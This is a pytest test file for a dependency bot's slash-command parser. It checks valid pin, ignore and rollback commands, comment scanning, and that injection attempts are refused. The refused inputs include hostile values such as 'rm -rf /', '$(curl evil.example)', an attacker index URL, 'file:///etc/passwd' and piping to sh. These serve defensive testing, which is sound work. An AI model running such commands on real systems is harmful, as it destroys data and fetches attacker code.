"""The slash-command grammar: valid lines, refused lines (injection attempts included),
comment scanning, the comment key and the canonical rendering."""

from __future__ import annotations

import hashlib
from datetime import date

import pytest

from bot.commands import grammar, messages
from bot.commands.grammar import (
    COMMAND_NAMES,
    MAX_COMMANDS,
    MAX_COMMENT_CHARS,
    MAX_LINE_CHARS,
    REASON_MAX_CHARS,
    Audit,
    Command,
    CommandLine,
    CommandSyntaxError,
    Explain,
    Help,
    Ignore,
    IgnoreAdvisory,
    ParsedComment,
    Pin,
    Rebase,
    Refresh,
    Rollback,
    Unignore,
    UnignoreAdvisory,
    Unpin,
    command_lines,
    describe,
    parse_command,
    parse_comment,
)

SLUG = "lockwarden-bot"

VALID: list[tuple[str, Command]] = [
    # pin
    (
        "/lockwarden pin numpy==1.26.4 --env serve -- breaks tokenizer",
        Pin("numpy==1.26.4", "numpy", ("serve",), "breaks tokenizer"),
    ),
    ('@lockwarden-bot pin "torch<2.4"', Pin("torch<2.4", "torch")),
    ('@LockWarden-Bot pin "torch<2.4"', Pin("torch<2.4", "torch")),
    ("/lockwarden pin numpy", Pin("numpy", "numpy")),
    ("/LOCKWARDEN PIN NumPy", Pin("numpy", "numpy")),
    ("  /lockwarden pin Foo_Bar.baz==1.0  ", Pin("foo-bar-baz==1.0", "foo-bar-baz")),
    ("/lockwarden pin --env serve numpy==1.0", Pin("numpy==1.0", "numpy", ("serve",))),
    ("/lockwarden pin numpy --env=serve", Pin("numpy", "numpy", ("serve",))),
    (
        "/lockwarden pin numpy --env serve,train --env serve --env dev",
        Pin("numpy", "numpy", ("serve", "train", "dev")),
    ),
    ("/lockwarden pin 'numpy[extra]>=1.26,<2'", Pin("numpy[extra]<2,>=1.26", "numpy")),
    (
        """/lockwarden pin "numpy==1.26; python_version<'3.12'" """,
        Pin('numpy==1.26; python_version < "3.12"', "numpy"),
    ),
    ("/lockwarden pin numpy --", Pin("numpy", "numpy")),
    ("/lockwarden pin numpy --   ", Pin("numpy", "numpy")),
    (
        '/lockwarden pin numpy -- it\'s "broken" #123',
        Pin("numpy", "numpy", (), 'it\'s "broken" #123'),
    ),
    ("/lockwarden pin numpy -- trailing \\", Pin("numpy", "numpy", (), "trailing")),
    ("/lockwarden pin numpy -- a\\b  \x00 c\t\td", Pin("numpy", "numpy", (), "ab c d")),
    ("/lockwarden pin numpy -- \u202eevil\u200b", Pin("numpy", "numpy", (), "evil")),
    ("/lockwarden pin numpy -- \\ ", Pin("numpy", "numpy")),
    ("/lockwarden pin numpy -- one -- two", Pin("numpy", "numpy", (), "one -- two")),
    ("/lockwarden\tpin\tnumpy", Pin("numpy", "numpy")),
    # unpin
    ("/lockwarden unpin numpy", Unpin("numpy")),
    ("/lockwarden unpin NumPy --env serve,train", Unpin("numpy", ("serve", "train"))),
    # rollback
    ("/lockwarden rollback", Rollback()),
    ("/lockwarden rollback numpy", Rollback(("numpy",))),
    (
        "/lockwarden rollback numpy --env serve SciPy numpy",
        Rollback(("numpy", "scipy"), ("serve",)),
    ),
    ("/lockwarden rollback --env serve", Rollback((), ("serve",))),
    ("/lockwarden rollback --to known-good", Rollback(to="known-good")),
    ("/lockwarden rollback --to Known-Good", Rollback(to="known-good")),
    ("/lockwarden rollback --to main", Rollback(to="main")),
    ("/lockwarden rollback --to=release/1.2", Rollback(to="release/1.2")),
    ("/lockwarden rollback --to 0123abcd", Rollback(to="0123abcd")),
    # refresh
    ("/lockwarden refresh", Refresh()),
    (
        "/lockwarden refresh --env train --package torch",
        Refresh(("train",), ("torch",)),
    ),
    (
        "/lockwarden refresh --package Torch==2.3.1 --package torch==2.3.1 --package numpy",
        Refresh((), ("torch==2.3.1", "numpy")),
    ),
    # no-argument commands
    ("/lockwarden rebase", Rebase()),
    ("/lockwarden help", Help()),
    ("/lockwarden HELP", Help()),
    # explain, unignore
    ("/lockwarden explain numpy", Explain("numpy")),
    ("/lockwarden unignore Typing_Extensions", Unignore("typing-extensions")),
    # ignore
    ("/lockwarden ignore numpy", Ignore("numpy")),
    (
        '/lockwarden ignore numpy ">=2" -- waiting for the 2.x migration',
        Ignore("numpy", ">=2", "waiting for the 2.x migration"),
    ),
    ("/lockwarden ignore numpy >=2", Ignore("numpy", ">=2")),
    ('/lockwarden ignore "numpy>=2"', Ignore("numpy", ">=2")),
    ('/lockwarden ignore NumPy "==2.*"', Ignore("numpy", "==2.*")),
    ('/lockwarden ignore numpy "~=1.26"', Ignore("numpy", "~=1.26")),
    ('/lockwarden ignore numpy "<2"', Ignore("numpy", "<2")),
    ('/lockwarden ignore numpy "<=2"', Ignore("numpy", "<=2")),
    ('/lockwarden ignore numpy ">2"', Ignore("numpy", ">2")),
    ('/lockwarden ignore numpy "== 2.0"', Ignore("numpy", "==2.0")),
    ("/lockwarden ignore numpy --", Ignore("numpy")),
    # a package name that starts like an advisory id's prefix is still a package
    ("/lockwarden ignore cve-bin-tool", Ignore("cve-bin-tool")),
    ("/lockwarden unignore GHSA-abcd-1234-wxyz", UnignoreAdvisory("GHSA-abcd-1234-wxyz")),
    ("/lockwarden unignore pysec-2024-12", UnignoreAdvisory("PYSEC-2024-12")),
    # audit
    ("/lockwarden audit", Audit()),
    ("/lockwarden audit --env serve,train", Audit(("serve", "train"))),
]

# Advisory rules take a required reason, which ``describe`` leaves out.
ADVISORY_VALID: list[tuple[str, IgnoreAdvisory]] = [
    (
        "/lockwarden ignore GHSA-abcd-1234-wxyz --until 2027-01-31 -- no fix we can take yet",
        IgnoreAdvisory("GHSA-abcd-1234-wxyz", "no fix we can take yet", date(2027, 1, 31)),
    ),
    (
        "/lockwarden ignore --until=2027-01-31 ghsa-ABCD-1234-WXYZ -- why",
        IgnoreAdvisory("GHSA-abcd-1234-wxyz", "why", date(2027, 1, 31)),
    ),
    (
        "/lockwarden ignore PYSEC-2024-12 -- the code path is never imported",
        IgnoreAdvisory("PYSEC-2024-12", "the code path is never imported"),
    ),
    ("/lockwarden ignore cve-2024-1234 -- x", IgnoreAdvisory("CVE-2024-1234", "x")),
    ("/lockwarden ignore OSV-2020-111 -- x", IgnoreAdvisory("OSV-2020-111", "x")),
    ("/lockwarden ignore MAL-2024-7 -- x", IgnoreAdvisory("MAL-2024-7", "x")),
    ("/lockwarden ignore GSD-2021-1000001 -- x", IgnoreAdvisory("GSD-2021-1000001", "x")),
    (
        "/lockwarden ignore CVE-2024-1234 -- it's 'quoted' `code` <b>x</b>  \t spaced",
        IgnoreAdvisory("CVE-2024-1234", "it's 'quoted' `code` <b>x</b> spaced"),
    ),
]


@pytest.mark.parametrize(("line", "expected"), VALID)
def test_valid_lines(line: str, expected: Command) -> None:
    assert parse_command(line, SLUG) == expected


INVALID: list[tuple[str, str]] = [
    # injection attempts: nothing runs, each is refused with a reason
    ("/lockwarden pin numpy==1.0; rm -rf /", "unrecognized arguments `rm -rf /`"),
    ("/lockwarden pin --index-url http://evil.example numpy", "no option `--index-url`"),
    ("/lockwarden pin --index-url=http://evil.example numpy", "no option `--index-url`"),
    ("/lockwarden pin -e git+https://github.com/x/y", "no option `-e`"),
    ('/lockwarden pin "numpy @ file:///etc/passwd"', "points at a URL"),
    ('/lockwarden pin "pkg @ https://evil.example/pkg.whl"', "points at a URL"),
    ("/lockwarden pin numpy @ file:///etc/passwd", "unrecognized arguments `@ file:///etc/passwd`"),
    ('/lockwarden pin "$(whoami)"', "`$(whoami)` is not a valid requirement"),
    ("/lockwarden pin '$(curl evil.example)'", "is not a valid requirement"),
    ("/lockwarden pin $(rm -rf /)", "no option `-rf`"),
    ("/lockwarden pin `whoami`", "`` `whoami` `` is not a valid requirement"),
    ('/lockwarden pin "numpy`id`"', "is not a valid requirement"),
    ("/lockwarden pin numpy|sh", "`numpy|sh` is not a valid requirement"),
    ("/lockwarden pin numpy&&id", "is not a valid requirement"),
    ('/lockwarden pin "numpy==1.0;"', "is not a valid requirement (Expected"),
    ("/lockwarden pin \"numpy; os_name == 'x #y'\"", "contains `#`"),
    ("/lockwarden pin \"numpy; os_name == ' --index-url x'\"", "a blank followed by `-`"),
    ("/lockwarden pin numpy\\;id", "cannot contain backslashes"),
    ("/lockwarden pin numpy\\", "cannot contain backslashes"),
    ('/lockwarden pin "nu\x00mpy"', "contains a control character"),
    ('/lockwarden pin "nu\tmpy"', "`nu\\tmpy` contains a control character"),
    ("/lockwarden pin nu\x7fmpy", "contains a control character"),
    ('/lockwarden pin "--" numpy', "A quoted `--` is not allowed"),
    ('/lockwarden pin "numpy==1.0', 'A quote in `pin "numpy==1.0` is not closed'),
    ("/lockwarden pin 'numpy", "is not closed"),
    ("/lockwarden pin numpy\nrm -rf /", "must fit on one line"),
    ("/lockwarden pin numpy\u2028rm", "must fit on one line"),
    # prefix and command word
    ("/lockwarden", "`/lockwarden` needs a command"),
    ("@lockwarden-bot", "`@lockwarden-bot` needs a command"),
    ("/lockwarden -- why", "`/lockwarden` needs a command"),
    ('/lockwarden ""', 'Unknown command ""'),
    ("", '"" is not a command'),
    ("pin numpy", "`pin numpy` is not a command"),
    ("@someone-else pin numpy", "is not a command"),
    ("/lockwarden pinn numpy", "Unknown command `pinn`: did you mean `pin`?"),
    ("/lockwarden Rolback", "did you mean `rollback`?"),
    ("/lockwarden frobnicate", "Unknown command `frobnicate`. Write `/lockwarden help`"),
    ("/lockwarden " + "x" * 900, "Unknown command `" + "x" * 79 + "…`"),
    ("/lockwarden pin " + "a" * MAX_LINE_CHARS, "the limit is 1,000"),
    # reasons where none is taken
    ("/lockwarden rebase -- now", "`rebase` takes no reason"),
    ("/lockwarden unpin numpy -- why", "`unpin` takes no reason"),
    ("/lockwarden help --", "`help` takes no reason"),
    # arguments and options
    ("/lockwarden rebase now", "`rebase`: unrecognized arguments `now`"),
    ("/lockwarden help me", "unrecognized arguments `me`"),
    ("/lockwarden help --verbose", "`help` has no option `--verbose`: it takes no options"),
    ("/lockwarden pin numpy --en serve", "no option `--en`: it takes only `--env`"),
    ("/lockwarden pin numpy scipy", "unrecognized arguments `scipy`"),
    ("/lockwarden pin numpy --env", "argument --env: expected one argument"),
    ("/lockwarden pin", "`pin` needs a requirement, e.g. `/lockwarden pin numpy==1.26.4`"),
    ("/lockwarden pin --env serve", "`pin` needs a requirement"),
    ("/lockwarden unpin", "`unpin` needs a package name"),
    ("/lockwarden explain", "`explain` needs a package name"),
    ("/lockwarden ignore", "`ignore` needs a package name or an advisory id"),
    ("/lockwarden unignore", "`unignore` needs a package name or an advisory id"),
    ("/lockwarden explain numpy scipy", "unrecognized arguments `scipy`"),
    # package names
    ("/lockwarden unpin numpy==1.0", "`numpy==1.0` is not a package name"),
    ("/lockwarden unpin 'numpy[extra]'", "is not a package name"),
    ("/lockwarden explain 'numpy; python_version<\"3\"'", "is not a package name"),
    ("/lockwarden explain ' numpy'", "is not a package name"),
    ("/lockwarden unignore $(id)", "`$(id)` is not a package name"),
    ("/lockwarden rollback numpy- ", "`numpy-` is not a package name"),
    # environments
    ("/lockwarden unpin numpy --env ../etc", "`../etc` is not a valid environment name"),
    ("/lockwarden unpin numpy --env serve,", "`serve,` is not a valid environment name"),
    ("/lockwarden unpin numpy --env ''", '"" is not a valid environment name'),
    ("/lockwarden refresh --env " + "e" * 65, "is not a valid environment name"),
    ("/lockwarden refresh --env -x", "argument --env: expected one argument"),
    # rollback --to
    ("/lockwarden rollback numpy --to main", "cannot be combined with packages or `--env`"),
    ("/lockwarden rollback --env serve --to known-good", "`/lockwarden rollback --to known-good`"),
    ("/lockwarden rollback --to", "argument --to: expected one argument"),
    ("/lockwarden rollback --to main..evil", "`main..evil` is not `known-good`"),
    ("/lockwarden rollback --to a//b", "is not `known-good` or a valid commit"),
    ("/lockwarden rollback --to main/", "is not `known-good`"),
    ("/lockwarden rollback --to main.lock", "is not `known-good`"),
    ("/lockwarden rollback --to 'main@{1}'", "is not `known-good`"),
    ("/lockwarden rollback --to .hidden", "is not `known-good`"),
    ("/lockwarden rollback --to " + "a" * 101, "is not `known-good`"),
    # refresh --package
    ("/lockwarden refresh --package 'numpy>=1'", "`numpy>=1` is not a package name or"),
    ("/lockwarden refresh --package 'numpy==1.*'", "is not a package name or `name==version`"),
    ("/lockwarden refresh --package 'numpy==1,!=2'", "is not a package name or"),
    ("/lockwarden refresh --package 'numpy[x]==1'", "is not a package name or"),
    ("/lockwarden refresh --package 'numpy @ https://x.example/n.whl'", "is not a package"),
    ("/lockwarden refresh --package 'numpy; os_name==\"nt\"'", "is not a package name or"),
    ("/lockwarden refresh --package numpy,scipy", "`numpy,scipy` is not a package name or"),
    # ignore ranges
    ('/lockwarden ignore "numpy>=2,<3"', "`numpy>=2,<3` has 2 clauses"),
    ('/lockwarden ignore numpy ">=2,<3"', "has 2 clauses and `ignore` takes one version range"),
    ('/lockwarden ignore numpy "!=2"', "`!=2` uses `!=`, which `ignore` does not take"),
    ('/lockwarden ignore numpy "===2"', "uses `===`"),
    ("/lockwarden ignore numpy 2.0", "`2.0` is not a version range"),
    ("/lockwarden ignore numpy ''", '"" is not a version range'),
    ("/lockwarden ignore numpy 'numpy>=2'", "is not a version range"),
    ("/lockwarden ignore numpy >= 2", "unrecognized arguments `2`"),
    ('/lockwarden ignore "numpy>=2" ">3"', "given twice, in `numpy>=2` and `>3`"),
    ("/lockwarden ignore $(id)", "`$(id)` is not a package name, a name with one version"),
    ("/lockwarden ignore 'numpy[x]'", "is not a package name, a name with one"),
    ("/lockwarden ignore 'numpy @ https://x.example/n.whl'", "is not a package name, a"),
    ("/lockwarden ignore numpy --until 2027-01-31", "package rules have none"),
    # advisory rules
    ("/lockwarden ignore GHSA-abcd-1234-wxyz", "needs a reason"),
    ("/lockwarden ignore GHSA-abcd-1234-wxyz --", "needs a reason"),
    ("/lockwarden ignore GHSA-abcd-1234-wxyz -- \u200b ", "needs a reason"),
    ("/lockwarden ignore GHSA-abcd-1234-wxyzz -- x", "`GHSA-abcd-1234-wxyzz` is not an advisory"),
    ("/lockwarden ignore GHSA-abcd-1234 -- x", "is not an advisory id"),
    ("/lockwarden ignore CVE-24-1234 -- x", "is not an advisory id"),
    ("/lockwarden ignore 'CVE-2024-1234;id' -- x", "`CVE-2024-1234;id` is not an advisory id"),
    ("/lockwarden ignore 'CVE-2024-1234$(id)' -- x", "is not an advisory id"),
    ("/lockwarden ignore 'CVE-2024-1234 && id' -- x", "is not an advisory id"),
    (
        "/lockwarden ignore 'GHSA-abcd-1234-wxyz](https://evil.example)' -- x",
        "is not an advisory id",
    ),
    ("/lockwarden ignore 'GHSA-abcd-1234-wxyz<!--' -- x", "is not an advisory id"),
    ("/lockwarden ignore 'PYSEC-2024-1\u202e' -- x", "is not an advisory id"),
    ("/lockwarden ignore PYSEC-2024-12 '>=2' -- x", "takes no version range (`>=2`)"),
    ("/lockwarden ignore PYSEC-2024-12 --until 2027-02-30 -- x", "`2027-02-30` is not a date"),
    ("/lockwarden ignore PYSEC-2024-12 --until 27-01-31 -- x", "is not a date"),
    ("/lockwarden ignore PYSEC-2024-12 --until 2027-1-31 -- x", "is not a date"),
    ("/lockwarden ignore PYSEC-2024-12 --until 'tomorrow' -- x", "`tomorrow` is not a date"),
    ("/lockwarden ignore PYSEC-2024-12 --until", "argument --until: expected one argument"),
    ("/lockwarden ignore PYSEC-2024-12 -- " + "x" * 201, "is 201 characters long"),
    ("/lockwarden unignore GHSA-abcd-1234-wxyzz", "is not an advisory id"),
    ("/lockwarden unignore CVE-2024-1234 -- x", "`unignore` takes no reason"),
    ("/lockwarden unignore CVE-2024-1234 --until 2027-01-01", "has no option `--until`"),
    # audit
    ("/lockwarden audit numpy", "unrecognized arguments `numpy`"),
    ("/lockwarden audit --env ../x", "`../x` is not a valid environment name"),
    ("/lockwarden audit -- why", "`audit` takes no reason"),
]


@pytest.mark.parametrize(("line", "fragment"), INVALID)
def test_invalid_lines(line: str, fragment: str) -> None:
    with pytest.raises(CommandSyntaxError) as caught:
        parse_command(line, SLUG)
    error = caught.value
    assert error.code == "command-syntax"
    assert fragment in error.user_message
    # One or two sentences, never an echo of a huge argument.
    assert len(error.user_message) < 400


@pytest.mark.parametrize(("line", "expected"), ADVISORY_VALID)
def test_advisory_rules(line: str, expected: IgnoreAdvisory) -> None:
    command = parse_command(line, SLUG)
    assert command == expected
    # describe leaves the reason out; with it given again the line reads back the same
    assert parse_command(f"/lockwarden {describe(command)} -- {expected.reason}") == expected


def test_an_advisory_reason_at_the_limit_is_kept_whole() -> None:
    command = parse_command("/lockwarden ignore CVE-2024-1234 -- " + "x" * REASON_MAX_CHARS)
    assert isinstance(command, IgnoreAdvisory)
    assert command.reason == "x" * REASON_MAX_CHARS


def test_the_slug_prefix_needs_a_slug() -> None:
    with pytest.raises(CommandSyntaxError, match="is not a command"):
        parse_command("@lockwarden-bot pin numpy")
    assert parse_command("/lockwarden pin numpy") == Pin("numpy", "numpy")


def test_a_long_reason_is_cut() -> None:
    command = parse_command("/lockwarden pin numpy -- " + "word " * 100)
    assert isinstance(command, Pin)
    assert command.reason is not None
    assert len(command.reason) == REASON_MAX_CHARS
    assert command.reason.endswith("word…")


def test_a_huge_argument_is_not_echoed() -> None:
    with pytest.raises(CommandSyntaxError) as caught:
        parse_command("/lockwarden pin '" + "`x" * 400 + "'")
    assert len(caught.value.user_message) < 400


# -- comments ------------------------------------------------------------------------------


COMMAND_LINES: list[tuple[str, str | None, tuple[str, ...]]] = [
    ("", None, ()),
    ("LGTM\n\nthanks", SLUG, ()),
    ("/lockwarden pin numpy", None, ("/lockwarden pin numpy",)),
    ("   /LockWarden  help  \r\n", None, ("/LockWarden  help",)),
    ("please /lockwarden help", None, ()),
    ("/lockwardenhelp", None, ()),
    ("/lockwarden", None, ("/lockwarden",)),
    ("@lockwarden-bot pin numpy", None, ()),
    ("@lockwarden-bot pin numpy", SLUG, ("@lockwarden-bot pin numpy",)),
    ("@LOCKWARDEN-BOT help", SLUG, ("@LOCKWARDEN-BOT help",)),
    ("@lockwarden-bot help", "Lockwarden-Bot", ("@lockwarden-bot help",)),
    ("@lockwarden-botx help", SLUG, ()),
    ("@lockwarden-bot help", "", ()),
    (
        "/lockwarden rebase\n```\n/lockwarden pin numpy\n```\n/lockwarden help",
        None,
        ("/lockwarden rebase", "/lockwarden help"),
    ),
    ("~~~text\n/lockwarden pin numpy\n~~~\n  /lockwarden help", None, ("/lockwarden help",)),
    ("  ```python\n/lockwarden pin numpy", None, ()),
    ("> /lockwarden pin numpy", None, ()),
]


@pytest.mark.parametrize(("body", "slug", "expected"), COMMAND_LINES)
def test_command_lines(body: str, slug: str | None, expected: tuple[str, ...]) -> None:
    assert command_lines(body, slug) == expected


def test_parse_comment_runs_lines_in_order_and_keeps_bad_ones() -> None:
    body = (
        "Thanks!\n"
        "/lockwarden pin numpy==1.26.4 --env serve -- breaks tokenizer\n"
        "```\n/lockwarden rebase\n```\n"
        "@lockwarden-bot frobnicate\n"
        "/lockwarden help\n"
    )
    parsed = parse_comment(body, SLUG)
    assert parsed.error is None
    assert parsed.lines == (
        CommandLine(
            text="/lockwarden pin numpy==1.26.4 --env serve -- breaks tokenizer",
            command=Pin("numpy==1.26.4", "numpy", ("serve",), "breaks tokenizer"),
        ),
        CommandLine(
            text="@lockwarden-bot frobnicate",
            command=None,
            error=messages.UNKNOWN_COMMAND.format(name="`frobnicate`"),
        ),
        CommandLine(text="/lockwarden help", command=Help()),
    )


def test_a_newline_inside_quotes_does_not_join_lines() -> None:
    parsed = parse_comment('/lockwarden pin "numpy==1.0\nrm -rf /"', None)
    assert parsed.error is None
    (line,) = parsed.lines
    assert line.command is None
    assert line.error is not None
    assert "is not closed" in line.error


def test_a_huge_comment_is_refused_whole() -> None:
    body = "/lockwarden pin numpy\n" + "x" * 60_000
    parsed = parse_comment(body, None)
    assert parsed.lines == ()
    assert parsed.error is not None
    assert len(parsed.error) < 300
    assert f"{len(body):,}" in parsed.error
    assert f"{MAX_COMMENT_CHARS:,}" in parsed.error


def test_a_comment_at_the_limit_is_read() -> None:
    body = "/lockwarden help\n" + "x" * (MAX_COMMENT_CHARS - len("/lockwarden help\n"))
    assert parse_comment(body, None).lines == (CommandLine("/lockwarden help", Help()),)


def test_too_many_commands_refuse_the_comment() -> None:
    body = "\n".join(["/lockwarden help"] * (MAX_COMMANDS + 1))
    parsed = parse_comment(body, None)
    assert parsed.lines == ()
    assert parsed.error == messages.TOO_MANY_COMMANDS.format(
        count=MAX_COMMANDS + 1, limit=MAX_COMMANDS
    )
    at_limit = parse_comment("\n".join(["/lockwarden help"] * MAX_COMMANDS), None)
    assert len(at_limit.lines) == MAX_COMMANDS


def test_a_comment_without_commands_is_empty() -> None:
    assert parse_comment("Looks good to me", SLUG) == ParsedComment(lines=())


def test_key_is_the_identity_of_the_command_text() -> None:
    first = parse_comment("Please:\n/lockwarden pin numpy\n/lockwarden rebase", None)
    edited = parse_comment("Please, now:\n  /lockwarden pin numpy\n\n/lockwarden rebase\n", None)
    changed = parse_comment("/lockwarden pin numpy==1.0\n/lockwarden rebase", None)
    assert first.key == edited.key
    assert first.key != changed.key
    expected = hashlib.sha256(b"/lockwarden pin numpy\n/lockwarden rebase").hexdigest()
    assert first.key == expected
    assert ParsedComment(lines=()).key == hashlib.sha256(b"").hexdigest()


# -- rendering -----------------------------------------------------------------------------


DESCRIBED: list[tuple[Command, str]] = [
    (Pin("numpy==1.26.4", "numpy", ("serve",), "why"), "pin numpy==1.26.4 --env serve"),
    (
        Pin('numpy==1.26; python_version < "3.12"', "numpy"),
        "pin 'numpy==1.26; python_version < \"3.12\"'",
    ),
    (Unpin("numpy", ("serve", "train")), "unpin numpy --env serve --env train"),
    (Rollback(), "rollback"),
    (Rollback(("numpy", "scipy"), ("serve",)), "rollback numpy scipy --env serve"),
    (Rollback(to="known-good"), "rollback --to known-good"),
    (
        Refresh(("train",), ("torch", "numpy==1.0")),
        "refresh --env train --package torch --package numpy==1.0",
    ),
    (Rebase(), "rebase"),
    (Explain("numpy"), "explain numpy"),
    (Ignore("numpy", ">=2", "why"), "ignore numpy '>=2'"),
    (Ignore("numpy"), "ignore numpy"),
    (Unignore("numpy"), "unignore numpy"),
    (IgnoreAdvisory("GHSA-abcd-1234-wxyz", "why"), "ignore GHSA-abcd-1234-wxyz"),
    (
        IgnoreAdvisory("PYSEC-2024-12", "why", date(2027, 1, 31)),
        "ignore PYSEC-2024-12 --until 2027-01-31",
    ),
    (UnignoreAdvisory("CVE-2024-1234"), "unignore CVE-2024-1234"),
    (Audit(("serve",)), "audit --env serve"),
    (Help(), "help"),
]


@pytest.mark.parametrize(("command", "expected"), DESCRIBED)
def test_describe(command: Command, expected: str) -> None:
    assert describe(command) == expected


@pytest.mark.parametrize(("line", "_command"), VALID)
def test_describe_round_trips(line: str, _command: Command) -> None:
    command = parse_command(line, SLUG)
    rendered = parse_command(f"/lockwarden {describe(command)}")
    reasonless = {"reason": None} if isinstance(command, Pin | Ignore) else {}
    assert rendered == type(command)(**{**command.__dict__, **reasonless})


def test_every_command_is_in_the_help() -> None:
    for name in COMMAND_NAMES:
        assert f"`/lockwarden {name}" in messages.HELP_TEXT
        assert name in messages.USAGE
    assert "{" not in messages.HELP_TEXT


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("", '""'),
        ("numpy", "`numpy`"),
        ("a`b", "`` a`b ``"),
        ("a``b`", "``` a``b` ```"),
        ("a\x00b", "`a\\x00b`"),
        ("x" * 200, "`" + "x" * 79 + "…`"),
    ],
)
def test_values_are_quoted_as_code(value: str, shown: str) -> None:
    assert grammar._show(value) == shown


def test_the_parsers_raise_instead_of_exiting() -> None:
    parsers = grammar._subparsers()
    assert set(parsers) == set(COMMAND_NAMES)
    with pytest.raises(grammar._ArgumentError, match="bad"):
        parsers["pin"].error("bad")
